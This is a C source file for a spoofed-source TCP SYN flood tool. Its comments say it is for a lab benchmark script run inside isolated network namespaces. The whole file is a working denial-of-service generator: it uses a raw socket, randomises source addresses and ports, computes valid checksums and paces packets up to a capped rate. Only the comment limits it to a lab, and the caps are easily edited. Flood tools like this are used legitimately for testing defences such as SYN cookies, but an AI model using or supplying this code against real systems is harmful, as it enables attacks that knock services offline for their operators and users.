// synflood.c - spoofed-source TCP SYNs at a fixed rate, for bench/synflood.sh only (inside its lab namespaces).
// usage: synflood DST_IP DST_PORT SRC_CIDR RATE SECONDS
// Sends RATE SYNs a second for SECONDS seconds (bounded: RATE <= 50000, SECONDS <= 300), each from a random
// address of SRC_CIDR and a random port, through a raw IP socket (IP_HDRINCL), paced in 1 ms slices against an
// absolute clock. Prints "sent N failed F seconds S" at the end.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static uint32_t rng = 2463534242u;
static uint32_t next_random(void) { rng ^= rng << 13; rng ^= rng >> 17; rng ^= rng << 5; return rng; }

static uint16_t checksum(const void *data, size_t length, uint32_t sum) {
  const uint8_t *p = data;
  for (; length > 1; p += 2, length -= 2) sum += (uint32_t)(p[0] << 8 | p[1]);
  if (length) sum += (uint32_t)(p[0] << 8);
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return (uint16_t)~sum;
}

int main(int argc, char **argv) {
  if (argc != 6) { fprintf(stderr, "usage: %s DST_IP DST_PORT SRC_CIDR RATE SECONDS\n", argv[0]); return 2; }
  struct in_addr dst, net;
  if (!inet_aton(argv[1], &dst)) { fprintf(stderr, "bad DST_IP\n"); return 2; }
  int port = atoi(argv[2]);
  char *slash = strchr(argv[3], '/');
  if (!slash) { fprintf(stderr, "SRC_CIDR needs /bits\n"); return 2; }
  *slash = 0;
  int bits = atoi(slash + 1);
  if (!inet_aton(argv[3], &net) || bits < 8 || bits > 30) { fprintf(stderr, "bad SRC_CIDR (prefix 8-30)\n"); return 2; }
  long rate = atol(argv[4]), seconds = atol(argv[5]);
  if (port < 1 || port > 65535 || rate < 1 || rate > 50000 || seconds < 1 || seconds > 300) {
    fprintf(stderr, "bounds: port 1-65535, rate 1-50000, seconds 1-300\n"); return 2;
  }
  rng ^= (uint32_t)getpid() * 2654435761u;
  int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (fd < 0) { perror("socket"); return 1; }
  uint32_t base = ntohl(net.s_addr) & ~((1u << (32 - bits)) - 1), span = (1u << (32 - bits)) - 2;
  struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr = dst };
  uint8_t packet[40];
  long total = rate * seconds, sent = 0, failed = 0;
  struct timespec start, now;
  clock_gettime(CLOCK_MONOTONIC, &start);
  for (long slice = 0; sent + failed < total; slice++) {
    long due = (long)((slice + 1) * rate / 1000); // SYNs due by the end of this 1 ms slice
    if (due > total) due = total;
    while (sent + failed < due) {
      uint32_t src = htonl(base + 1 + next_random() % span);
      uint16_t sport = (uint16_t)(1024 + next_random() % 64000);
      memset(packet, 0, sizeof packet);
      packet[0] = 0x45; packet[3] = 40; packet[6] = 0x40; packet[8] = 64; packet[9] = 6; // DF, TTL 64, TCP
      packet[4] = (uint8_t)(next_random()); packet[5] = (uint8_t)(next_random());
      memcpy(packet + 12, &src, 4); memcpy(packet + 16, &dst.s_addr, 4);
      uint8_t *tcp = packet + 20;
      tcp[0] = (uint8_t)(sport >> 8); tcp[1] = (uint8_t)sport; tcp[2] = (uint8_t)(port >> 8); tcp[3] = (uint8_t)port;
      uint32_t isn = next_random(); memcpy(tcp + 4, &isn, 4);
      tcp[12] = 5 << 4; tcp[13] = 0x02; tcp[14] = 0xfa; tcp[15] = 0xf0; // SYN, window 64240
      uint8_t pseudo[12 + 20];
      memcpy(pseudo, packet + 12, 8); pseudo[8] = 0; pseudo[9] = 6; pseudo[10] = 0; pseudo[11] = 20;
      memcpy(pseudo + 12, tcp, 20);
      uint16_t sum = checksum(pseudo, sizeof pseudo, 0);
      tcp[16] = (uint8_t)(sum >> 8); tcp[17] = (uint8_t)sum;
      uint16_t ipsum = checksum(packet, 20, 0);
      packet[10] = (uint8_t)(ipsum >> 8); packet[11] = (uint8_t)ipsum;
      if (sendto(fd, packet, sizeof packet, 0, (struct sockaddr *)&to, sizeof to) == sizeof packet) sent++;
      else failed++;
    }
    struct timespec wake = start;
    wake.tv_nsec += (slice + 1) * 1000000L;
    wake.tv_sec += wake.tv_nsec / 1000000000L; wake.tv_nsec %= 1000000000L;
    clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &wake, NULL);
  }
  clock_gettime(CLOCK_MONOTONIC, &now);
  printf("sent %ld failed %ld seconds %.2f\n", sent, failed, (now.tv_sec - start.tv_sec) + (now.tv_nsec - start.tv_nsec) / 1e9);
  return 0;
}
